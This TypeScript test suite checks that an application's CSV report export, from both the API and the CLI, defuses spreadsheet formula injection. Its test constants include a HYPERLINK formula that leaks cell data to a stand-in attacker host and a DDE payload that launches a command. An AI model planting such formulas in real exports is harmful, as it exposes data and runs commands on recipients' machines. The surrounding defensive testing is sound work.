import { parse } from 'csv-parse/sync';
import { runCli } from './support/cli-process';
import { newArticle } from './support/factories';
import { bearer, mintKey } from './support/keys';
import { startTestApp, TestApp } from './support/test-app';
import { asText } from './support/text-body';

const TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const PUBLISHER = '@SUM(1+1)';
const RATIONALE = '+cmd|" /C calc"!A0';
const MENTION_FREE = '-2+3';

describe('abuse: CSV formula injection', () => {
  let t: TestApp;
  let documentId: string;

  beforeAll(async () => {
    t = await startTestApp();
    const key = await mintKey(t, 'factchecker');
    documentId = (
      await t.http
        .post('/api/documents')
        .set(bearer(key))
        .send(newArticle({ title: TITLE, publisher: PUBLISHER }))
        .expect(201)
    ).body.id;
    const claims = (await t.http.get(`/api/documents/${documentId}/claims`).expect(200)).body.items;
    await t.http
      .post(`/api/claims/${claims[0].id}/reviews`)
      .set(bearer(key))
      .send({ verdict: 'false', rationale: RATIONALE })
      .expect(201);
    await t.http
      .post(`/api/claims/${claims[1].id}/reviews`)
      .set(bearer(key))
      .send({ verdict: 'true', rationale: `\t${MENTION_FREE}` })
      .expect(201);
  });
  afterAll(() => t.close());

  const csvRows = async (query: Record<string, string>) => {
    const res = await t.http
      .get(`/api/documents/${documentId}/report`)
      .query({ format: 'csv', ...query })
      .buffer(true)
      .parse(asText)
      .expect(200);
    return parse(res.body as string, { columns: true }) as Array<Record<string, string>>;
  };

  it('defuses cells starting with =, +, -, @ or tab by default (a leading apostrophe)', async () => {
    const rows = await csvRows({});
    expect(rows.length).toBeGreaterThan(1);
    for (const row of rows) {
      expect(row.document_title).toBe(`'${TITLE}`);
      expect(row.publisher).toBe(`'${PUBLISHER}`);
    }
    const rationales = rows.map((r) => r.verdict_rationale).filter(Boolean);
    expect(rationales).toEqual(expect.arrayContaining([`'${RATIONALE}`, `'\t${MENTION_FREE}`]));
    // No cell at all starts like a formula.
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('csvFormulas=raw writes the cells exactly as stored', async () => {
    const rows = await csvRows({ csvFormulas: 'raw' });
    for (const row of rows) {
      expect(row.document_title).toBe(TITLE);
      expect(row.publisher).toBe(PUBLISHER);
    }
    expect(rows.map((r) => r.verdict_rationale)).toEqual(
      expect.arrayContaining([RATIONALE, `\t${MENTION_FREE}`]),
    );
  });

  it('an unknown csvFormulas value is refused with 400', async () => {
    const res = await t.http
      .get(`/api/documents/${documentId}/report`)
      .query({ format: 'csv', csvFormulas: 'yes' })
      .expect(400);
    expect(res.body.message ?? JSON.stringify(res.body)).toMatch(/csvFormulas/);
  });

  it('the CLI report defuses too, and --csv-formulas raw writes raw', async () => {
    const escaped = await runCli(['report', '--document', documentId, '--format', 'csv'], t.cliEnv);
    expect(escaped.code).toBe(0);
    const escapedRows = parse(escaped.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(escapedRows[0].document_title).toBe(`'${TITLE}`);
    const raw = await runCli(
      ['report', '--document', documentId, '--format', 'csv', '--csv-formulas', 'raw'],
      t.cliEnv,
    );
    expect(raw.code).toBe(0);
    expect((parse(raw.stdout, { columns: true }) as Array<Record<string, string>>)[0].document_title).toBe(
      TITLE,
    );
  });
});
